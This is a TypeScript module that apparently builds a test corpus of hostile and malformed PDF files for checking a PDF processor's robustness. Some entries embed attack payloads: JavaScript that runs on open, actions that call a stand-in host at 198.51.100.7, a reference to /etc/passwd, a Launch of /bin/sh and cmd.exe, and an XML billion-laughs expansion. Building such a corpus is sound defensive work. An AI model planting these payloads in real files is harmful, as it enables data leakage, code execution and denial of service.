import { flate, filters, HARMLESS_TEXT, onePage, streamBody } from './raw-pdf.ts';
import type { HostileFile } from './hostile-file.ts';

const base = (): Buffer => onePage().build();
const before = (junk: string | Buffer): Buffer => Buffer.concat([Buffer.from(junk), base()]);

/** Broken fonts, scripts and calls home, other types, and files cut short. */
export const disguises: readonly HostileFile[] = [
  ...(['/FontFile', '/FontFile2', '/FontFile3'] as const).map((key): HostileFile => ({
    name: `font-of-noise-in-${key.slice(1).toLowerCase()}`,
    kind: 'font',
    make: () => {
      const pdf = onePage();
      const file = pdf.stream(
        flate(Buffer.from(Array.from({ length: 40_000 }, (_, at) => (at * 7919) & 255))),
        `${filters(1)} /Subtype /Type1C /Length1 40000`,
      );
      pdf.set(
        4,
        `<< /Type /Font /Subtype /TrueType /BaseFont /Bad /FirstChar 0 /LastChar 255 /Widths [] /FontDescriptor << /Type /FontDescriptor /FontName /Bad /Flags 4 ${key} ${file} 0 R >> >>`,
      );
      return pdf.build();
    },
  })),
  {
    name: 'font-type3-that-shows-itself',
    kind: 'font',
    make: () => {
      const pdf = onePage();
      pdf.set(
        4,
        '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /FirstChar 48 /LastChar 57 /Widths [1 1 1 1 1 1 1 1 1 1] /Encoding << /Differences [48 /a /a /a /a /a /a /a /a /a /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F1 4 0 R >> >> >>',
      );
      pdf.stream('1 0 d0 BT /F1 1 Tf (0123456789) Tj ET');
      return pdf.build();
    },
  },
  {
    name: 'font-with-a-million-widths',
    kind: 'font',
    make: () => {
      const pdf = onePage();
      pdf.set(
        4,
        `<< /Type /Font /Subtype /TrueType /BaseFont /W /FirstChar 0 /LastChar 3000000 /Widths [${'500 '.repeat(3_000_000)}] >>`,
      );
      return pdf.build();
    },
  },
  {
    name: 'script-on-opening',
    kind: 'active',
    make: () =>
      onePage({ catalog: '/OpenAction << /S /JavaScript /JS (while\\(true\\){app.alert\\(1\\)}) >>' }).build(),
  },
  {
    name: 'calls-home-by-every-action',
    kind: 'active',
    make: () =>
      onePage({
        catalog:
          '/OpenAction << /S /URI /URI (http://198.51.100.7/leak) >> /AA << /WC << /S /SubmitForm /F (http://198.51.100.7/leak) >> >>',
        page: '/AA << /O << /S /GoToR /F (\\\\\\\\198.51.100.7\\\\share) >> >>',
      }).build(),
  },
  {
    name: 'content-in-an-external-file',
    kind: 'active',
    make: () =>
      onePage({ content: streamBody(HARMLESS_TEXT, '/F (file:///etc/passwd) /FFilter /FlateDecode') }).build(),
  },
  {
    name: 'launches-a-program',
    kind: 'active',
    make: () => onePage({ catalog: '/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) >> >>' }).build(),
  },
  {
    name: 'embedded-file-of-500-mb',
    kind: 'active',
    make: () => {
      const pdf = onePage({
        catalog: '/Names << /EmbeddedFiles << /Names [(a) << /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>] >> >>',
      });
      pdf.stream(flate(Buffer.alloc(500_000_000)), `${filters(1)} /Type /EmbeddedFile`);
      return pdf.build();
    },
  },
  {
    name: 'xfa-form-with-entities',
    kind: 'active',
    make: () => {
      const pdf = onePage({ catalog: '/AcroForm << /XFA 6 0 R /Fields [] >>' });
      pdf.stream(
        `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, at) => `<!ENTITY ${'bcdefghij'[at]} "${`&${'abcdefghi'[at]};`.repeat(10)}">`).join('')}]><x>&j;</x>`,
      );
      return pdf.build();
    },
  },
  { name: 'nothing-at-all', kind: 'disguise', make: () => Buffer.alloc(0) },
  { name: 'zeros', kind: 'disguise', make: () => Buffer.alloc(1_000_000) },
  { name: 'header-and-nothing-else', kind: 'disguise', make: () => Buffer.from('%PDF-1.7\n') },
  {
    name: 'zip-renamed',
    kind: 'disguise',
    make: () => Buffer.concat([Buffer.from('504b0304', 'hex'), Buffer.alloc(4000, 1)]),
  },
  {
    name: 'png-renamed',
    kind: 'disguise',
    make: () => Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(4000, 1)]),
  },
  {
    name: 'html-renamed',
    kind: 'disguise',
    make: () => Buffer.from('<!doctype html><script>fetch("//198.51.100.7")</script>'),
  },
  {
    name: 'program-renamed',
    kind: 'disguise',
    make: () => Buffer.concat([Buffer.from('7f454c46', 'hex'), Buffer.alloc(4000)]),
  },
  { name: 'html-and-pdf-at-once', kind: 'disguise', make: () => before('<html><script>alert(1)</script>\n') },
  { name: 'zip-and-pdf-at-once', kind: 'disguise', make: () => before(Buffer.from('504b030414000000', 'hex')) },
  { name: 'junk-of-900-bytes-before', kind: 'disguise', make: () => before('x'.repeat(900)) },
  { name: 'junk-of-5000-bytes-before', kind: 'disguise', make: () => before('x'.repeat(5000)) },
  {
    name: 'junk-of-10-mb-after',
    kind: 'disguise',
    make: () => Buffer.concat([base(), Buffer.alloc(10_000_000, 0x25)]),
  },
  {
    name: 'five-million-percent-signs',
    kind: 'disguise',
    make: () => Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(5_000_000, 0x25)]),
  },
  {
    name: 'a-million-empty-objects',
    kind: 'disguise',
    make: () =>
      Buffer.from(
        `%PDF-1.7\n${Array.from({ length: 1_000_000 }, (_, at) => `${at} 0 obj endobj`).join('\n')}\ntrailer << /Root 1 0 R >>`,
      ),
  },
  ...[0.1, 0.35, 0.6, 0.85, 0.99].map((share): HostileFile => ({
    name: `cut-off-at-${share * 100}-percent`,
    kind: 'disguise',
    make: () => {
      const whole = onePage({ content: streamBody(flate(HARMLESS_TEXT.repeat(500)), filters(1)) }).build();
      return whole.subarray(0, Math.floor(whole.length * share));
    },
  })),
];
